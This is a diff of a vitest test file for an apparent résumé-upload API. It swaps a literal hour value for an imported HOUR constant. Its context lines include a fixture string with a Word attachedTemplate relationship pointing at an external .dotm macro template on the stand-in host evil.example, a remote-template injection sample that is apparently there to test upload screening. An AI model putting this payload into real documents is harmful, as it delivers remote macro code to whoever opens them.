@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { resumeMimes } from '../../contract/resume.ts'
+import { HOUR } from '../../contract/time.ts'
 import { doc } from '../support/ole.ts'
 import { type Api, openApi } from '../support/open-api.ts'
 import { dataUrl, pdf, sampleJob, sampleMessage, samplePerson } from '../support/samples.ts'
@@ -12,7 +13,7 @@ beforeAll(async () => {
   jobId = (await api.staff('POST', '/api/jobs', sampleJob)).json()._id
 })
 afterAll(() => api.close())
-beforeEach(() => api.advance(60 * 60_000))
+beforeEach(() => api.advance(HOUR))
 
 const remote =
   '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
